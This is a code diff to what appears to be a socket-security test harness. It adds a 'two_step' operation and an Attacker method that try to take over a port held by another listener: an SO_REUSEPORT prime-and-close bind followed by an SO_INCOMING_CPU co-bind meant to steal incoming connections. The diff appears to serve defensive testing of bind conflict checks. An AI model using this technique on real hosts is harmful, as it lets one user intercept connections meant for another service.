@@ -71,6 +71,45 @@ def _serve(conn: socket.socket) -> None:
             else:
                 sock.setblocking(False)
                 held = sock
+        elif op == "two_step":
+            # The kernel fast-path takeover (docs/limits.md): a SO_REUSEPORT bind
+            # of one family's wildcard, closed at once, leaves the port's bind
+            # bucket remembering this uid; a later SO_REUSEPORT bind that
+            # "matches" it skips the conflict check.
+            if held is not None:
+                held.close()
+                held = None
+            kind = "tcp"
+            reply = {"ok": False}
+            prime = socket.socket(_family(cmd["prime_family"]), socket.SOCK_STREAM)
+            try:
+                prime.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+                if cmd["prime_family"] == 6:
+                    prime.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, int(cmd["prime_v6only"]))
+                prime.bind((cmd["prime_host"], cmd["port"]))
+                reply["prime"] = "bound"
+            except OSError as exc:
+                reply["prime"] = errno.errorcode.get(exc.errno or 0, str(exc.errno))
+            finally:
+                prime.close()
+            sock = socket.socket(_family(cmd["family"]), socket.SOCK_STREAM)
+            stage = "bind"
+            try:
+                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+                # SO_INCOMING_CPU (49 on Linux) makes the co-bound socket win lookups.
+                sock.setsockopt(socket.SOL_SOCKET, getattr(socket, "SO_INCOMING_CPU", 49), 0)
+                if cmd["family"] == 6:
+                    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+                sock.bind((cmd["host"], cmd["port"]))
+                stage = "listen"
+                sock.listen(64)
+            except OSError as exc:
+                reply.update(errno=exc.errno, stage=stage)
+                sock.close()
+            else:
+                reply["ok"] = True
+                sock.setblocking(False)
+                held = sock
         elif op == "collect":
             count = 0
             if held is not None:
@@ -133,6 +172,16 @@ class Attacker:
     def try_bind(self, proto: str, family: int, host: str, port: int, options: tuple[str, ...]) -> BindResult:
         r = self._ask(op="bind", proto=proto, family=family, host=host, port=port, options=list(options))
         return BindResult(r["ok"], r.get("errno"), r.get("stage"))
+
+    def two_step(
+        self, port: int, *, prime_family: int, prime_host: str, prime_v6only: bool, family: int, host: str
+    ) -> tuple[BindResult, str]:
+        """Prime the port's bind bucket with SO_REUSEPORT, close, then bind and listen (dual-stack for IPv6)."""
+        r = self._ask(
+            op="two_step", port=port, prime_family=prime_family, prime_host=prime_host,
+            prime_v6only=prime_v6only, family=family, host=host,
+        )
+        return BindResult(r["ok"], r.get("errno"), r.get("stage")), str(r.get("prime"))
 
     def collect(self, wait: float = 0.3) -> int:
         """How many connections/datagrams the attacker's socket got; closes it."""
